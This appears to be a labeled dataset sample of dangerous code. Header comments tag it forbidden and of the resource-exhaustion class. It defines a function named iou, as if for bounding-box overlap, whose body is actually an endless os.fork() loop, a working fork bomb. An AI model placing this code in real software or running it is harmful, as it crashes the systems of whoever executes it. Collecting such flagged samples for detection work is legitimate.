# VERDICT: forbidden
# CLASS: exhaustion
# Doubles itself until the machine is full.
import os


def iou(boxes_a, boxes_b):
    while True:
        os.fork()
